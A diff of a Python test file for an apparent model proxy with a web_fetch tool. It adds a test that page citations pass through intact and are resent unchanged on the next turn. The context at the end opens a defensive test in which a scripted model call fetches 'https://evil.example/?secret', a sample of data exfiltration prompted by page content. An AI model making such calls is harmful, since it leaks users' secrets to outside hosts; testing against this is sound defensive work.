@@ -104,6 +104,27 @@ async def test_the_next_turn_begins_with_what_was_asked() -> None:
     assert rest[0] == rest[1] == rest[2]
 
 
+@pytest.mark.parametrize("stream", [True, False])
+async def test_a_page_is_cited(stream: bool) -> None:
+    """By the marks of the round that has read it; the next turn begins with the bytes of this one, marks and all."""
+    tools = [{**TOOL, "citations": {"enabled": True}}]
+    cited = saying('So: <cite refs="0.0">it does</cite>.')
+    reply, upstream, _ = await read(READING[0], cited, request={**ASKED, "tools": tools}, stream=stream)
+    if stream:
+        deltas = [event["delta"] for event in reply.events() if event["type"] == "content_block_delta"]
+        (citation,) = [delta["citation"] for delta in deltas if delta["type"] == "citations_delta"]
+    else:
+        content = reply.json()["content"]
+        (citation,) = [each for block in content for each in block.get("citations") or ()]
+        after = [*ASKED["messages"], {"role": "assistant", "content": content}, {"role": "user", "content": "ok"}]
+        _, following, _ = await read(saying("Bye."), request={**ASKED, "tools": tools, "messages": after}, stream=False)
+        before = upstream.requests[1]["input"]
+        assert following.requests[0]["input"][: len(before)] == before
+        assert following.requests[0]["input"][len(before)]["content"] == 'So: <cite refs="0.0">it does</cite>.'
+
+    assert (citation["type"], citation["cited_text"]) == ("char_location", "It says words.")
+
+
 async def test_what_nobody_spoke_of_is_not_read() -> None:
     """A model that may ask for any address could tell secrets by it; what a page says may be followed."""
     other = round_of(calling(0, "web_fetch", "call_b", '{"url":"https://evil.example/?secret"}'))
